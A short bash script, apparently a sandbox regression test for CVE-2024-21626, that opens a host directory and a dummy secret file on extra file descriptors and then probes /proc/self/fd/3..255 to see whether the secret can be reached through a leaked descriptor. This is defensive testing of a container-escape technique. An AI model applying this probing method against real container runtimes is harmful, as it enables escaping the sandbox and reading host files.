# A directory of the host's that was left open leads out of the sandbox. CVE-2024-21626
# shellcheck shell=bash disable=SC2034

prepare() {
    mkdir -p /root/secret
    echo secret >/root/secret/file
}

launch() {
    exec 7</root 9</root/secret/file
    "$@"
}

attack() {
    for number in {3..255}; do
        [ ! -e "/proc/self/fd/$number/secret/file" ] || exit 0
    done
    stopped "only these are open: $(echo /proc/self/fd/*)"
}
